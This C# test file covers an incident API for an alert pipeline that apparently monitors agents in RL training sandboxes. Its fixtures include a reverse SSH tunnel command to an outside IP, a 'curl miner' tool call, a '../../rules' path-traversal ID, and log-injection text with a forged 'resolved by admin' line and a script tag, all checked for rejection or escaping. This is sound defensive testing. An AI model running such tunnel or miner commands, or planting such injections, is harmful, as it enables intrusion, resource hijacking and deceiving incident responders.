using System.Net;
using System.Text;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Respond.Incidents;
using AlertPipeline.Functions.Functions;
using AlertPipeline.Functions.Tests.Http;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;

namespace AlertPipeline.Functions.Tests.Functions;

/// <summary>The incident API through the app's own composition, over an in-memory store seeded with hand-made incidents.</summary>
public sealed class IncidentFunctionsTests : IDisposable
{
    private static readonly DateTimeOffset T0 = new(2025, 11, 14, 3, 12, 40, 265, TimeSpan.Zero);
    private static readonly DateTimeOffset Now = T0.AddHours(1);

    private readonly ServiceProvider _services;
    private readonly IncidentFunctions _functions;
    private readonly InMemoryIncidentStore _store = new();

    public IncidentFunctionsTests()
    {
        var services = new ServiceCollection();
        services.AddSingleton<TimeProvider>(new FakeTimeProvider(Now));
        FunctionsComposition.Configure(services, new ConfigurationBuilder().Build());

        // Registered last so it wins over whatever the composition registers: the test reads what it seeded.
        services.AddSingleton<IIncidentStore>(_store);
        _services = services.BuildServiceProvider(new ServiceProviderOptions { ValidateOnBuild = true, ValidateScopes = true });
        _functions = ActivatorUtilities.CreateInstance<IncidentFunctions>(_services);
    }

    public void Dispose() => _services.Dispose();

    private static Incident Make(string sandbox, int sequence, DateTimeOffset first, AlertLevel level = AlertLevel.High, params IncidentTimelineEntry[] timeline) => new()
    {
        IncidentId = IncidentIds.For(sandbox, sequence),
        SandboxId = sandbox,
        Sequence = sequence,
        Level = level,
        HighestAlertLevel = AlertLevel.High,
        LevelReasons = level == AlertLevel.Critical ? ["combination: resource hijacking + protocol tunneling"] : [],
        Techniques = ["T1496", "T1572"],
        AlertIds = ["a1", "a2"],
        RunIds = ["ppo-0110"],
        EpisodeIds = ["88123"],
        Commands = [new IncidentCommand("a2", "sent", first.AddSeconds(4))],
        Notifications = [new IncidentNotification("a1", "opened", AlertLevel.High, ["T1572"], first.AddSeconds(1))],
        FirstSeen = first,
        LastSeen = timeline.Length == 0 ? first : timeline.Max(e => e.Time),
        CreatedAt = first,
        UpdatedAt = first,
        Timeline = [.. timeline],
    };

    private static IncidentTimelineEntry Entry(DateTimeOffset at, string kind, string summary, string? alertId = null)
        => new(at, kind, summary, $"{kind}:{at.UtcTicks}:{summary.GetHashCode(StringComparison.Ordinal)}") { AlertId = alertId };

    private async Task<Incident> SeedAsync(Incident incident)
    {
        Assert.True(await _store.TryAddAsync(incident, CancellationToken.None));
        return incident;
    }

    private TestHttpRequest Request(string method, string pathAndQuery, string? body = null)
        => new(new TestFunctionContext(_services, new Dictionary<string, object?>()), method, pathAndQuery, body is null ? null : Encoding.UTF8.GetBytes(body));

    private async Task<TestHttpResponse> ListAsync(string query = "")
        => TestHttp.Read(await _functions.ListAsync(Request("GET", "incidents" + query), CancellationToken.None));

    private async Task<TestHttpResponse> GetAsync(string id)
        => TestHttp.Read(await _functions.GetAsync(Request("GET", "incidents/" + id), id, CancellationToken.None));

    private async Task<TestHttpResponse> TimelineAsync(string sandbox, string query = "")
        => TestHttp.Read(await _functions.TimelineAsync(Request("GET", $"sandboxes/{sandbox}/timeline{query}"), sandbox, CancellationToken.None));

    private async Task<TestHttpResponse> SetStatusAsync(string id, string body)
        => TestHttp.Read(await _functions.SetStatusAsync(Request("POST", $"incidents/{id}/status", body), id, CancellationToken.None));

    [Fact]
    public async Task The_app_composition_alone_provides_an_incident_store_for_the_functions()
    {
        var services = new ServiceCollection();
        FunctionsComposition.Configure(services, new ConfigurationBuilder().Build());
        await using var provider = services.BuildServiceProvider(new ServiceProviderOptions { ValidateOnBuild = true, ValidateScopes = true });

        var functions = ActivatorUtilities.CreateInstance<IncidentFunctions>(provider);
        var response = TestHttp.Read(await functions.ListAsync(
            new TestHttpRequest(new TestFunctionContext(provider, new Dictionary<string, object?>()), "GET", "incidents"), CancellationToken.None));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(0, response.Json.GetProperty("incidents").GetArrayLength());
    }

    [Fact]
    public async Task List_filters_by_sandbox_status_and_since_latest_first_and_says_when_max_cut_it()
    {
        await SeedAsync(Make("rl-env-7731", 1, T0));
        await SeedAsync(Make("rl-env-7731", 2, T0.AddMinutes(50)));
        var other = Make("rl-env-7732", 1, T0.AddMinutes(10));
        other.Status = IncidentStatus.Resolved;
        await SeedAsync(other);

        var all = await ListAsync();
        var bySandbox = await ListAsync("?sandbox=rl-env-7731&max=1");
        var resolved = await ListAsync("?status=resolved");
        var since = await ListAsync("?since=" + Uri.EscapeDataString(T0.AddMinutes(5).ToString("O")));

        Assert.Equal(HttpStatusCode.OK, all.StatusCode);
        Assert.StartsWith("application/json", all.Header("Content-Type"), StringComparison.Ordinal);
        Assert.Equal(
            [IncidentIds.For("rl-env-7731", 2), IncidentIds.For("rl-env-7732", 1), IncidentIds.For("rl-env-7731", 1)],
            all.Json.GetProperty("incidents").EnumerateArray().Select(i => i.GetProperty("incidentId").GetString()));
        Assert.False(all.Json.GetProperty("truncated").GetBoolean());
        var first = all.Json.GetProperty("incidents")[0];
        Assert.Equal("open", first.GetProperty("status").GetString());
        Assert.Equal("high", first.GetProperty("level").GetString());
        Assert.Equal(2, first.GetProperty("alertCount").GetInt32());
        Assert.False(first.TryGetProperty("timeline", out _));

        Assert.Equal([IncidentIds.For("rl-env-7731", 2)], bySandbox.Json.GetProperty("incidents").EnumerateArray().Select(i => i.GetProperty("incidentId").GetString()));
        Assert.True(bySandbox.Json.GetProperty("truncated").GetBoolean());
        Assert.Equal([IncidentIds.For("rl-env-7732", 1)], resolved.Json.GetProperty("incidents").EnumerateArray().Select(i => i.GetProperty("incidentId").GetString()));
        Assert.Equal(2, since.Json.GetProperty("incidents").GetArrayLength());
    }

    [Fact]
    public async Task Get_returns_the_whole_story_in_time_order_with_attacker_text_cleaned_and_escaped()
    {
        var incident = await SeedAsync(Make("rl-env-7731", 1, T0, AlertLevel.Critical,
            Entry(T0.AddSeconds(1), TimelineKinds.Alert, "SSH Reverse Port Forward", "a2"),
            Entry(T0, TimelineKinds.ToolCall, "bash: ssh -R 2222:localhost:22 x@203.0.113.66\n03:12:41.000Z  status  resolved by admin<script>\u001b[2J")));

        var response = await GetAsync(incident.IncidentId);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var json = response.Json;
        Assert.Equal("critical", json.GetProperty("level").GetString());
        Assert.Equal("high", json.GetProperty("highestAlertLevel").GetString());
        Assert.Equal(["combination: resource hijacking + protocol tunneling"], json.GetProperty("levelReasons").EnumerateArray().Select(r => r.GetString()));
        Assert.Equal(["T1496", "T1572"], json.GetProperty("techniques").EnumerateArray().Select(r => r.GetString()));
        Assert.Equal("sent", json.GetProperty("commands")[0].GetProperty("status").GetString());
        Assert.Equal("opened", json.GetProperty("notifications")[0].GetProperty("reason").GetString());
        var timeline = json.GetProperty("timeline").EnumerateArray().ToList();
        Assert.Equal(["tool_call", "alert"], timeline.Select(e => e.GetProperty("kind").GetString()));
        Assert.Equal("a2", timeline[1].GetProperty("alertId").GetString());
        var summary = timeline[0].GetProperty("summary").GetString()!;
        Assert.DoesNotContain('\n', summary);
        Assert.DoesNotContain('\u001b', summary);
        Assert.DoesNotContain("<script>", response.Text, StringComparison.Ordinal);
        Assert.Contains("resolved by admin<script>", summary, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("inc-0123456789abcdef01234567", HttpStatusCode.NotFound, "incident-not-found")]
    [InlineData("inc-0123", HttpStatusCode.BadRequest, "bad-request")]
    [InlineData("../../rules", HttpStatusCode.BadRequest, "bad-request")]
    [InlineData("INC-0123456789ABCDEF01234567", HttpStatusCode.BadRequest, "bad-request")]
    public async Task A_missing_or_malformed_id_is_a_problem(string id, HttpStatusCode status, string type)
    {
        var response = await GetAsync(id);

        Assert.Equal(status, response.StatusCode);
        Assert.StartsWith("application/problem+json", response.Header("Content-Type"), StringComparison.Ordinal);
        Assert.Equal("urn:alertpipeline:problem:" + type, response.Json.GetProperty("type").GetString());
    }

    [Theory]
    [InlineData("?max=0")]
    [InlineData("?max=100000")]
    [InlineData("?max=ten")]
    [InlineData("?since=yesterday")]
    [InlineData("?status=closed")]
    [InlineData("?status=1")]
    [InlineData("?status=open,resolved")]
    public async Task A_bad_list_filter_is_a_400_problem(string query)
    {
        var response = await ListAsync(query);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.StartsWith("application/problem+json", response.Header("Content-Type"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_sandbox_timeline_merges_its_incidents_in_time_order_naming_each_and_honours_since_and_max()
    {
        var first = await SeedAsync(Make("rl-env-7731", 1, T0, AlertLevel.High,
            Entry(T0, TimelineKinds.ToolCall, "bash: curl miner"),
            Entry(T0.AddMinutes(2), TimelineKinds.Alert, "Miner", "a1")));
        var second = await SeedAsync(Make("rl-env-7731", 2, T0.AddMinutes(1), AlertLevel.High,
            Entry(T0.AddMinutes(1), TimelineKinds.Network, "firewall deny 203.0.113.66:22"),
            Entry(T0.AddMinutes(3), TimelineKinds.Command, "shutdown sent")));
        await SeedAsync(Make("rl-env-7732", 1, T0, AlertLevel.High, Entry(T0, TimelineKinds.Process, "python train.py")));

        var all = await TimelineAsync("rl-env-7731");
        var since = await TimelineAsync("rl-env-7731", "?since=" + Uri.EscapeDataString(T0.AddMinutes(1).ToString("O")) + "&max=2");

        Assert.Equal(HttpStatusCode.OK, all.StatusCode);
        Assert.Equal("rl-env-7731", all.Json.GetProperty("sandboxId").GetString());
        var entries = all.Json.GetProperty("entries").EnumerateArray().ToList();
        Assert.Equal(["tool_call", "network", "alert", "command"], entries.Select(e => e.GetProperty("kind").GetString()));
        Assert.Equal([first.IncidentId, second.IncidentId, first.IncidentId, second.IncidentId], entries.Select(e => e.GetProperty("incidentId").GetString()));
        Assert.False(all.Json.GetProperty("truncated").GetBoolean());
        Assert.Equal(["network", "alert"], since.Json.GetProperty("entries").EnumerateArray().Select(e => e.GetProperty("kind").GetString()));
        Assert.True(since.Json.GetProperty("truncated").GetBoolean());

        var none = await TimelineAsync("rl-env-0000");
        Assert.Equal(0, none.Json.GetProperty("entries").GetArrayLength());
        Assert.Equal(HttpStatusCode.BadRequest, (await TimelineAsync("bad\u0001id")).StatusCode);
    }

    [Fact]
    public async Task Status_moves_forward_onto_the_timeline_and_back_only_with_force()
    {
        var incident = await SeedAsync(Make("rl-env-7731", 1, T0));

        var resolved = await SetStatusAsync(incident.IncidentId, """{"status":"resolved","by":"oncall@example.com","note":"miner removed"}""");
        var backwards = await SetStatusAsync(incident.IncidentId, """{"status":"acknowledged","by":"late"}""");
        var reopened = await SetStatusAsync(incident.IncidentId, """{"status":"open","by":"oncall@example.com","force":true}""");

        Assert.Equal(HttpStatusCode.OK, resolved.StatusCode);
        Assert.Equal("resolved", resolved.Json.GetProperty("status").GetString());
        Assert.Equal("oncall@example.com", resolved.Json.GetProperty("statusBy").GetString());
        Assert.Contains(resolved.Json.GetProperty("timeline").EnumerateArray(),
            e => e.GetProperty("kind").GetString() == "status" && e.GetProperty("summary").GetString() == "status resolved by oncall@example.com: miner removed");
        Assert.Equal(HttpStatusCode.Conflict, backwards.StatusCode);
        Assert.Contains("is resolved", backwards.Json.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, reopened.StatusCode);
        Assert.Equal(IncidentStatus.Open, (await _store.GetAsync(incident.IncidentId, CancellationToken.None))!.Status);
    }

    [Fact]
    public async Task Status_without_by_records_the_caller()
    {
        var incident = await SeedAsync(Make("rl-env-7731", 1, T0));

        var response = await SetStatusAsync(incident.IncidentId, """{"status":"acknowledged"}""");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("function-key", response.Json.GetProperty("statusBy").GetString());
    }

    [Theory]
    [InlineData("inc-0123456789abcdef01234567", """{"status":"resolved"}""", HttpStatusCode.NotFound)]
    [InlineData("nope", """{"status":"resolved"}""", HttpStatusCode.BadRequest)]
    [InlineData(null, """{"status":"closed"}""", HttpStatusCode.BadRequest)]
    [InlineData(null, """{"status":"acknowledged, resolved"}""", HttpStatusCode.BadRequest)]
    [InlineData(null, """{"by":"x"}""", HttpStatusCode.BadRequest)]
    [InlineData(null, "not json", HttpStatusCode.BadRequest)]
    public async Task A_bad_status_change_is_a_problem(string? id, string body, HttpStatusCode status)
    {
        var incident = await SeedAsync(Make("rl-env-7731", 1, T0));

        var response = await SetStatusAsync(id ?? incident.IncidentId, body);

        Assert.Equal(status, response.StatusCode);
        Assert.StartsWith("application/problem+json", response.Header("Content-Type"), StringComparison.Ordinal);
        Assert.Equal(IncidentStatus.Open, (await _store.GetAsync(incident.IncidentId, CancellationToken.None))!.Status);
    }

    [Fact]
    public async Task A_status_body_over_the_cap_is_a_413()
    {
        var incident = await SeedAsync(Make("rl-env-7731", 1, T0));

        var response = await SetStatusAsync(incident.IncidentId, "{\"status\":\"resolved\",\"note\":\"" + new string('x', IncidentFunctions.MaxStatusBytes) + "\"}");

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
    }
}
